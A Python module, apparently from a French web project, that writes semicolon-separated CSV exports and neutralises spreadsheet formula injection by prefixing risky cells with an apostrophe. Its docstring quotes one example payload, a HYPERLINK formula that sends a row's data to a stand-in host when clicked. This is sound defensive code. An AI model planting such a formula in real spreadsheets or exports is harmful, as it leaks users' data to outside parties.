"""CSV files for spreadsheets, safe against formula injection.

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by Excel and
LibreOffice (`=HYPERLINK("https://evil.example/?"&A1;"Cliquer")` sends the row away when clicked): such a text
gets a leading apostrophe, which the spreadsheet shows as text. Numbers (int, float, Decimal) are values we
write ourselves and stay as they are, negative ones included; a number formatted with a French decimal comma
goes through `decimal()`, which keeps it a number (`-4,486000`, not `'-4,486000`).

Usage (the French convention of the exports: `;` between cells, CRLF, UTF-8 with a BOM for Excel):

    from tremplin.www import csv as safe_csv

    buffer = io.StringIO()
    writer = safe_csv.writer(buffer)
    writer.writerow(["bureau", "longitude", "population"])
    writer.writerow([site.name, safe_csv.decimal(site.longitude), 1200])
    response = HttpResponse(safe_csv.BOM + buffer.getvalue(), content_type="text/csv; charset=utf-8")

`safe_cell(value)` is the rule for one cell, for code that builds rows another way.
"""

import csv
from decimal import Decimal

BOM = "\ufeff"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class Number(str):
    """The text of a number written by us (see `decimal`): never neutralised."""


def decimal(value, places: int = 6) -> Number | str:
    """`value` with `places` decimals and a French decimal comma (`-4,486000`); empty when None."""
    if value is None:
        return ""
    return Number(f"{value:.{places}f}".replace(".", ","))


def safe_cell(value):
    """The cell as a spreadsheet should read it: None → empty, numbers unchanged, a text that a spreadsheet
    would run as a formula prefixed with an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, (bool, int, float, Decimal, Number)):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


class SafeWriter:
    """csv.writer whose every cell goes through `safe_cell`."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(stream, *, delimiter: str = ";", lineterminator: str = "\r\n", **options) -> SafeWriter:
    """A CSV writer on `stream` (`;`, CRLF, like csv.writer otherwise) that neutralises formulas in every cell."""
    return SafeWriter(stream, delimiter=delimiter, lineterminator=lineterminator, **options)
